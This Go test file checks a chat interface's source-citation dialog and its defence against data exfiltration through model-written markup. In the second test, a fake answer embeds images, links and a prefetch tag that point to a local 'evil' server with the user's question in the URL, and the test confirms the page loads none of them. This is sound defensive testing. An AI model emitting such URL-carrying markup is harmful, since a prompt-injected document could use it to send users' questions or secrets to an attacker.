package web_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/codexcontinue/codexcontinue/services/frontend/internal/fakebackend"
	"github.com/codexcontinue/codexcontinue/services/internal/backendapi"
)

// TestBrowserSources: a citation opens its source above the conversation, on a desktop and a phone,
// in light and dark colours.
func TestBrowserSources(t *testing.T) {
	for _, size := range []struct {
		name string
		w, h int
	}{{"desktop", 1280, 800}, {"phone", 390, 844}} {
		for _, scheme := range []string{"light", "dark"} {
			t.Run(size.name+"-"+scheme, func(t *testing.T) {
				more := make(chan struct{})
				s := newSite(t, func(message string, a *fakebackend.Answer) {
					switch message {
					case "unsearched":
						a.Sources(backendapi.Sources{Unsearched: true})
						a.Text("As far as I know, within two days.")
					case "unnamed":
						a.Sources(bothSources)
						a.Text("I cannot find it in the documents.")
					default:
						a.Sources(bothSources)
						a.Text("A letter of discharge is due within two days [1]")
						<-more
						a.Text(", and whoever wrote it signs it [1, 2].")
					}
					a.Done()
				})
				s.backend.AddPassage(letters)
				s.backend.AddPassage(signing)
				b := newBrowser(t, size.w, size.h)
				shot := func(name string) {
					b.screenshot(fmt.Sprintf("sources-%s-%s-%s", name, size.name, scheme))
				}
				b.do(media("prefers-color-scheme", scheme), chromedp.Navigate(s.url+"/"),
					chromedp.WaitVisible("#message"))
				b.ask("When is a letter due?")
				b.wait("document.querySelectorAll('a.cite').length === 1") // while it is written
				close(more)
				b.wait("document.querySelector('article.answer').dataset.state === 'complete'")
				b.wait("document.querySelectorAll('a.cite').length === 3 && " +
					"document.querySelectorAll('a.source').length === 2")
				b.noOverflow()
				shot("answer")

				b.do(chromedp.Click("a.cite"))
				b.wait("document.getElementById('source-dialog').open && " +
					"document.querySelector('#source-body .quoted').innerText.startsWith('It is due')")
				if at := value[string](b, "location.pathname"); at != "/c/c1" {
					t.Errorf("it leaves the conversation for %s", at)
				}
				if n := value[int](b, "document.querySelectorAll('#source-body img, #source-body a').length"); n > 0 {
					t.Errorf("the document brings %d images and links", n)
				}
				b.noOverflow()
				shot("passage")
				b.do(chromedp.KeyEvent("\x1b"))
				b.wait("!document.getElementById('source-dialog').open")

				s.backend.RemovePassage(letters.ID)
				b.expect("404")
				b.do(chromedp.Click("a.source"))
				b.wait("document.getElementById('source-dialog').open && document.getElementById(" +
					"'source-body').innerText.includes('no longer there, or not for you')")
				shot("gone")
				b.do(chromedp.Click("#source-dialog [data-close]"))
				b.wait("!document.getElementById('source-dialog').open")

				for n, message := range []string{"unsearched", "unnamed"} {
					b.ask(message)
					b.wait(fmt.Sprintf("document.querySelectorAll('.answer[data-state=complete]')."+
						"length === %d && document.querySelectorAll('.sources-note').length === %d",
						n+2, n+1))
				}
				b.do(script("document.getElementById('scroll').scrollTop = 1e6"))
				b.noOverflow()
				shot("none")

				s.backend.AddPassage(letters)
				b.do(chromedp.Navigate(value[string](b, "document.querySelector('a.source').href")),
					chromedp.WaitVisible(".quoted"))
				b.noOverflow()
				shot("page")
			})
		}
	}
}

// TestBrowserCarriesNothingAway: what a document has a model write, an image or a link with the
// question in its address, loads nothing. The address is there to read, and goes nowhere without a
// click.
func TestBrowserCarriesNothingAway(t *testing.T) {
	var mu sync.Mutex
	var got []string
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, r.URL.String())
	}))
	t.Cleanup(evil.Close)
	asked := func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string{}, got...)
	}

	away := evil.URL + "/?q=SECRET-" + strings.Repeat("x", 200) + "-END"
	s := newSite(t, func(_ string, a *fakebackend.Answer) {
		a.Sources(bothSources)
		a.Text("![x](" + away + "&a)\n\n[the form](" + away + "&b)\n\n" +
			"<img src=\"" + away + "&c\">\n\n<link rel=prefetch href=\"" + away + "&d\">\n\n" +
			"[" + evil.URL + "/harmless](" + away + "&e) [1](" + away + "&f)\n\n[1]: " + away + "&g\n")
		a.Done()
	})

	b := newBrowser(t, 390, 844)
	b.do(chromedp.Navigate(s.url+"/"), chromedp.WaitVisible("#message"))
	b.ask("SECRET")
	complete := "document.querySelector('article.answer')?.dataset.state === 'complete'"
	b.wait(complete)
	b.do(chromedp.Reload())
	b.wait(complete)
	if n := value[int](b, "document.querySelectorAll('.body :is(img, link, iframe, object)').length"); n > 0 {
		t.Errorf("the answer has %d elements that load something", n)
	}
	b.noOverflow()

	b.screenshot("sources-links-phone")

	// The policy of the page would refuse what markup that got through asked for.
	b.expect("Content Security Policy")
	b.expect("violates")
	refused := value[bool](b, `new Promise((done) => {
		document.addEventListener("securitypolicyviolation", () => done(true), { once: true });
		const image = new Image();
		image.onload = () => done(false);
		image.src = "`+away+`&policy";
	})`)
	if !refused {
		t.Error("the page's policy lets images of other sites through")
	}

	text := value[string](b, "document.querySelector('.body').innerText")
	for _, end := range []string{"&a", "&b", "&e"} {
		if !strings.Contains(text, away+end) {
			t.Errorf("nobody sees that a link goes to %s:\n%s", away+end, text)
		}
	}
	if n := value[int](b, "document.querySelectorAll('.body a.cite').length"); n != 1 {
		t.Errorf("%d citations", n)
	}
	if href := value[string](b, "document.querySelector('.body a.cite').pathname"); href != "/passages/p-1" {
		t.Errorf("a citation goes to %s", href)
	}
	if seen := asked(); len(seen) > 0 {
		t.Fatalf("without a click this was asked for: %q", seen)
	}

	// A click does go there, so the server would have seen the others.
	b.do(script("document.querySelector('.body a[href$=\"&b\"]').click()"))
	b.wait("true")
	for range 200 {
		if len(asked()) > 0 {
			break
		}
		value[bool](b, "new Promise((done) => setTimeout(() => done(true), 50))")
	}
	if seen := asked(); len(seen) == 0 || !strings.HasSuffix(seen[0], "-END&b") {
		t.Errorf("a click asks for %q", seen)
	}
}
